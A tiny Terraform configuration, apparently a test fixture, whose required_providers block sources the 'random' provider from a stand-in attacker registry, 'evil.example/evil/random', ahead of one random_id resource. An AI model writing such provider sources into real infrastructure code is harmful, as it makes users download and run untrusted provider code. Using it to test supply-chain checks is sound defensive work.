terraform {
  required_providers {
    random = { source = "evil.example/evil/random" }
  }
}
resource "random_id" "x" {
  byte_length = 8
}
